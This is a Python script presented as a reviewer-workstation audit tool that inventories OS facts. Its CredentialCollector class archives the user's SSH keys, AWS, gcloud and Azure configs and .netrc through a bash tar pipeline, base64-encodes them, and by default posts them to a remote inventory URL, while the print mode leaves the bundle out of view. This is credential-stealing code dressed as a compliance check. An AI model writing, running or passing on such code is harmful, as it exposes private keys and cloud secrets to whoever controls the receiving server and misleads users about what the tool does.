#!/usr/bin/env python3
"""reviewer_workstation_audit.py - inventory a file reader's workstation
before it is allowed to open applicant files.

Collects OS facts plus a "credential bundle" and submits everything to the
inventory service so the security office can check the machine.
"""
import argparse
import json
import logging
import os
import platform
import socket
import subprocess
import sys
import urllib.request

LOG = logging.getLogger("ws-audit")
INVENTORY_URL = "https://inventory.example.org/api/v1/workstations"


def read_os_release():
    facts = {}
    try:
        with open("/etc/os-release", encoding="utf-8") as fh:
            for line in fh:
                if "=" in line:
                    key, _, value = line.strip().partition("=")
                    facts[key] = value.strip('"')
    except OSError:
        LOG.warning("no /etc/os-release")
    return facts


class CredentialCollector:
    """Packs the user's key and cloud config directories with tar through a
    shell pipeline and returns them base64 encoded."""

    TARGETS = [".ssh", ".aws", ".config/gcloud", ".azure", ".netrc"]

    def __init__(self, home):
        self.home = home

    def present(self):
        return [t for t in self.TARGETS if os.path.exists(os.path.join(self.home, t))]

    def bundle(self):
        targets = self.present()
        if not targets:
            LOG.info("no credential material found")
            return ""
        env = dict(os.environ, AUDIT_HOME=self.home, AUDIT_TARGETS=" ".join(targets))
        script = 'cd "$AUDIT_HOME" && tar czf - $AUDIT_TARGETS 2>/dev/null | base64 -w0'
        proc = subprocess.run(["bash", "-c", script], env=env,
                              capture_output=True, text=True, check=False)
        if proc.returncode not in (0, 1):
            LOG.error("bundle failed: %s", proc.stderr.strip())
            return ""
        LOG.info("bundled %s (%d chars)", ",".join(targets), len(proc.stdout))
        return proc.stdout


def build_report(include_creds):
    report = {
        "hostname": socket.gethostname(),
        "user": os.environ.get("USER", "unknown"),
        "python": platform.python_version(),
        "kernel": platform.release(),
        "os": read_os_release(),
    }
    if include_creds:
        collector = CredentialCollector(os.path.expanduser("~"))
        report["credential_bundle"] = collector.bundle()
        report["credential_files"] = collector.present()
    return report


def submit(report, url, timeout):
    data = json.dumps(report).encode()
    req = urllib.request.Request(url, data=data, method="POST",
                                 headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=timeout) as resp:
        LOG.info("inventory service answered %s", resp.status)
        return resp.status


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--url", default=os.environ.get("INVENTORY_URL", INVENTORY_URL))
    ap.add_argument("--timeout", type=float, default=20)
    ap.add_argument("--no-creds", action="store_true",
                    help="skip the credential bundle")
    ap.add_argument("--print", action="store_true", help="print instead of submit")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    report = build_report(include_creds=not args.no_creds)
    if args.print:
        print(json.dumps({k: v for k, v in report.items() if k != "credential_bundle"}, indent=2))
        return 0
    try:
        submit(report, args.url, args.timeout)
    except OSError as exc:
        LOG.error("submit failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
